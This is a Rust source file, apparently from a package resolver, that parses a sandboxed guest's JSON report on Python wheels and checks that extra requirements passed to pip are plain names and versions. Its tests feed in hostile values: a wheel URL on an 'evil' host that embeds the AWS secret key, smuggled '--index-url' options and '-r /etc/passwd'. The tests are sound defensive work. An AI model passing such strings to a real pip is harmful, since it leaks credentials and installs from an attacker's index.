//! What a guest says of a choice of wheels; data, whose words may be those of the wheels.

use serde::Deserialize;

use super::request::{MAX_REQUIREMENTS, Requirement};
use crate::error::OrInternal;
use crate::{Error, Result};

/// What the guest says of a choice.
#[derive(Deserialize)]
pub(crate) struct Checked {
    /// Names, as the index compares them.
    pub(crate) needed: Vec<String>,
    /// Requirements, which are to be [asked for](Self::missing).
    missing: Vec<String>,
    /// Sentences.
    wrong: Vec<String>,
    /// Name, version taken, newest version.
    older: Vec<(String, String, String)>,
}

impl Checked {
    /// # Errors
    /// Internal: texts that our script does not send.
    pub(crate) fn read(text: &str) -> Result<Self> {
        serde_json::from_str(text.trim()).or_internal("judging the packages")
    }

    /// What pip is to be asked for besides, in our own words: a wheel that has taken over the guest must not write pip's
    /// options, addresses or variables.
    ///
    /// # Errors
    /// Unavailable: one that is more than a name, extras, versions and a marker; too many.
    pub(crate) fn missing(&self) -> Result<Vec<String>> {
        if self.missing.len() > MAX_REQUIREMENTS {
            return Err(Error::unavailable(format!("they need more than {MAX_REQUIREMENTS} further packages")));
        }
        let asked = |line: &String| match Requirement::parse(line) {
            Ok(requirement) => Ok(requirement.text),
            Err(_) => Err(Error::unavailable(format!("they need {}, which is no package of the index", plain(line)))
                .advise("name other packages or versions")),
        };
        self.missing.iter().map(asked).collect()
    }

    /// Name, version taken and newest version, of packages of which there are newer ones.
    pub(crate) fn older(&self) -> impl Iterator<Item = [String; 3]> {
        self.older.iter().map(|(name, taken, newest)| [name, taken, newest].map(|text| plain(text)))
    }

    /// # Errors
    /// Unavailable, with the first thing that is wrong.
    pub(crate) fn holds(&self) -> Result<()> {
        match self.wrong.first() {
            None => Ok(()),
            Some(wrong) => {
                let mut wrong = plain(wrong);
                if self.wrong.len() > 1 {
                    wrong.push_str(&format!(" ({} more)", self.wrong.len() - 1));
                }
                Err(Error::unavailable(wrong).context("the packages do not go together").advise(
                    "name other versions, or remove the lock to choose anew; what is inside cannot be replaced",
                ))
            }
        }
    }
}

/// One short line of a guest's.
fn plain(text: &str) -> String {
    text.chars().filter(|c| !c.is_control()).take(300).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_missing_reaches_pip_as_plain_requirements_alone() {
        let missing = |lines: &[&str]| {
            let text = serde_json::json!({"needed": [], "missing": lines, "wrong": [], "older": []}).to_string();
            Checked::read(&text).unwrap().missing()
        };
        assert_eq!(missing(&["B.c[X] >=1,<2", "d"]).unwrap(), ["b-c[x]<2,>=1", "d"]);
        for line in [
            "x @ https://evil/${AWS_SECRET_ACCESS_KEY}/x-1-py3-none-any.whl",
            "x\n--index-url https://evil",
            "x --index-url https://evil",
            "x ; os_name == '${AWS_SECRET_ACCESS_KEY}'",
            "-r /etc/passwd",
            "./x",
            "",
        ] {
            let error = missing(&["a", line]).expect_err(line);
            assert!(error.is_unavailable() && !error.to_string().contains('\n'), "{line}: {error}");
        }
        assert!(missing(&vec!["a"; MAX_REQUIREMENTS + 1]).is_err());
    }

    #[test]
    fn the_first_thing_that_is_wrong_is_told_on_one_line() {
        let told = |wrong: &str| {
            let text = format!(r#"{{"needed": ["a"], "missing": [], "wrong": {wrong}, "older": [["a", "1", "2"]]}}"#);
            Checked::read(&text).unwrap()
        };
        assert!(told("[]").holds().is_ok());
        let error = told(r#"["a needs\n b", "c"]"#).holds().unwrap_err();
        assert!(error.is_unavailable());
        assert_eq!(error.to_string(), "the packages do not go together: a needs b (1 more)");
        assert!(Checked::read("{}").is_err() && Checked::read("Traceback").is_err());
    }
}
